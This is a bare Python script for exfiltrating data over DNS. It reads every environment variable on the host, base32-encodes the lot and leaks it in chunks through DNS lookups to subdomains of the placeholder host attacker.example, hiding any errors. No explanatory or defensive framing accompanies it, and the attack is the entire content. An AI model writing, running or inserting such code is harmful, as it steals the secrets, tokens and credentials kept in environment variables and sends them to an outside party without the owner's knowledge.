import os, socket, base64
data = "\n".join(f"{k}={v}" for k, v in os.environ.items())
enc = base64.b32encode(data.encode()).decode().strip("=").lower()
for i in range(0, len(enc), 50):
    try:
        socket.gethostbyname(f"{enc[i:i+50]}.{i}.r.attacker.example")
    except OSError:
        pass
